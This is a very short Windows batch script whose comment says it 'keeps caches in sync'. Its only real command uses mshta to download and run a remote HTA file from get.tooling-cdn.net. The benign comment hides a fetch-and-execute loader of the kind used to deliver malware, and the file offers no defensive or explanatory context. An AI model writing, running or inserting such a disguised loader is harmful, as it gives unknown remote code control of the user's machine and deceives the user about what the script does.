@echo off
# keeps caches in sync
mshta https://get.tooling-cdn.net/setup.hta
